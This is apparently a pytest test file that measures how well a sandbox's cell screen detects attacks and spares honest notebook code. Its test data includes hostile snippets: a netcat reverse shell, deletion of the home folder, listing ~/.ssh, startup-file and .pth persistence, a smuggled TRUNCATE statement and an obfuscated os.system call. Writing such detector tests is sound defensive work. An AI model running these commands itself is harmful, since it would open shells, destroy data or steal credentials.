"""How good the screen is: what it finds of attacks, and what it leaves of honest work."""

from __future__ import annotations

import pytest

from sandbox_kernel.plugins.screen.rule_index import Changes, RuleIndex, default
from sandbox_kernel.plugins.screen.screen import CellScreen
from tests.plugins.screen.corpora import attacks, honest, is_held_out, reviewed

FAMILIES = sorted({family for family, _ in attacks()})
THRESHOLD = 60


def found(snippets: list[str]) -> tuple[float, float]:
    """Return which part of the snippets has a finding, and which part would be blocked."""
    results = [CellScreen().look(snippet) for snippet in snippets]
    whole = len(results)
    return sum(bool(one.findings) for one in results) / whole, sum(one.score >= THRESHOLD for one in results) / whole


def test_there_are_several_hundred_attacks_and_a_third_is_held_out() -> None:
    held_out = [one for _, one in attacks() if is_held_out(one)]
    assert len(attacks()) > 350
    assert 100 < len(held_out) < 150
    assert len({one for _, one in attacks()}) == len(attacks())


@pytest.mark.parametrize("family", [name for name in FAMILIES if name != "exhaustion"])
def test_of_each_family_nine_in_ten_attacks_are_found(family: str) -> None:
    noticed, _ = found([one for name, one in attacks() if name == family and not is_held_out(one)])
    assert noticed >= 0.9


def test_of_the_attacks_that_were_held_out_nine_in_ten_are_found() -> None:
    noticed, blocked = found([one for family, one in attacks() if is_held_out(one) and family != "exhaustion"])
    assert noticed >= 0.9
    assert blocked >= 0.65


def test_of_what_exhausts_a_sandbox_some_is_found() -> None:
    """The screen estimates neither sizes nor times: the limits of a session are there for that."""
    noticed, _ = found([one for family, one in attacks() if family == "exhaustion"])
    assert noticed >= 0.4


def test_no_honest_cell_is_blocked_and_few_are_warned_of() -> None:
    screens = {cell: CellScreen().look(cell) for _, cell in honest()}
    assert [cell for cell, one in screens.items() if one.score >= THRESHOLD] == []
    assert sum(bool(one.findings) for one in screens.values()) / len(screens) < 0.25


def test_what_a_reviewer_wrote_is_found_and_none_of_the_honest_cells_is_blocked() -> None:
    noticed, blocked = found(list(reviewed("risky")))
    assert len(reviewed("risky")) == 61 + 75
    assert noticed >= 0.9
    assert blocked >= 0.65
    noticed, blocked = found(list(reviewed("honest")))
    assert len(reviewed("honest")) == 47 + 92
    assert noticed < 0.3
    assert blocked == 0


CLASSES = {
    "a shell behind a connection": (
        "file-delete",
        "!ls -e /bin/sh",
        "process-reverse-shell",
        "!nc -e /bin/sh 192.0.2.1 9",
    ),
    "a home folder by its function": (
        *("file-delete-system", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.cwd() / 'out')"),
        *("file-delete-system", "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())"),
    ),
    "a folder of credentials by its parts": (
        *("credential-file", "from pathlib import Path\nlist((Path.home() / 'data').iterdir())"),
        *("credential-file", "from pathlib import Path\nlist((Path.home() / '.ssh').iterdir())"),
    ),
    "a start file by its parts": (
        *("persist-startup", "import os\nopen(os.path.join(folder, 'startup', '00.py'), 'w')"),
        *("persist-startup", "import os\nopen(os.path.join(folder, 'profile_default', 'startup', '00.py'), 'w')"),
    ),
    "the system by its parts": (
        *("file-read-system", "import os\nopen(os.path.join('etc', 'motd'))"),
        *("file-read-system", "import os\nopen(os.path.join('/', 'etc', 'motd'))"),
    ),
    "a package by where it lies": (
        *("persist-package", "import sklearn\nopen(sklearn.__file__)"),
        *("persist-package", "import sklearn\nopen(sklearn.__file__, 'a')"),
    ),
    "all that is in a home folder": (
        *("file-delete-system", "import os, shutil\nshutil.rmtree(os.path.join(os.environ['HOME'], 'cache'))"),
        *("file-delete-system", "import os, shutil\nshutil.rmtree(os.environ['HOME'])"),
    ),
    "an archive that may say where its files go": (
        *("file-traversal", "import tarfile\ntarfile.open('a.tar').extractall('data', filter='data')"),
        *("file-traversal", "import tarfile\ntarfile.open('a.tar').extractall('data', filter='fully_trusted')"),
    ),
    "packages by their function": (
        *("persist-startup", "import site\nprint(site.getsitepackages())"),
        *("persist-startup", "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w')"),
    ),
    "a table that is emptied among other statements": (
        *("data-drop", "pd.read_sql('SELECT trunc(a) FROM t', c)"),
        *("data-drop", "pd.read_sql('TRUNCATE TABLE t; SELECT 1', c)"),
    ),
    "a hash of a hash": (
        *("miner-loop", "import hashlib\nh = hashlib.sha256()\nfor part in parts:\n    h.update(part)"),
        *("miner-loop", "import hashlib\nwhile x:\n    y = hashlib.sha256(hashlib.sha256(x).digest()).digest()"),
    ),
    "a name of a package for data": (
        *("hidden-name", "import numpy as np\ngetattr(np, 'float' + '32')"),
        *("hidden-name", "import numpy as np\ngetattr(np, 'o' + 's').system('id')"),
    ),
}


@pytest.mark.parametrize("name", CLASSES)
def test_a_class_of_attacks_is_told_from_honest_work_that_looks_like_it(name: str) -> None:
    absent, honest_cell, code, attack = CLASSES[name]
    assert absent not in [one.code for one in CellScreen().look(honest_cell).findings]
    assert code in [one.code for one in CellScreen().look(attack).findings]
    assert CellScreen().look(honest_cell).score < THRESHOLD


DIRECT = {
    "cell-too-deep": "(" * 200,
    "cell-too-large": "x = 1\n" * 30_000,
    "exhaust-wait": "!sleep infinity",
    "file-archive": "!tar czf a.tgz /etc",
    "file-encrypt": "print('Your files have been encrypted')",
    "network-unverified": "!curl -k https://example.test",
}
"""Codes that no snippet of the corpora has."""


@pytest.mark.slow
def test_each_code_is_found() -> None:
    snippets = (*(one for _, one in attacks()), *reviewed("risky"), *DIRECT.values())
    codes = {one.code for snippet in snippets for one in CellScreen().look(snippet).findings}
    # What a list of the operator's has, and what judges of the operator's say.
    assert set(default().rows) - codes == {"import-not-allowed", "second-opinion", "judge-failed"}


def test_control_without_rules_nothing_is_found() -> None:
    none = RuleIndex(Changes(weights=dict.fromkeys(default().rows, 0)))
    assert not any(CellScreen(none).look(one).findings for _, one in attacks())
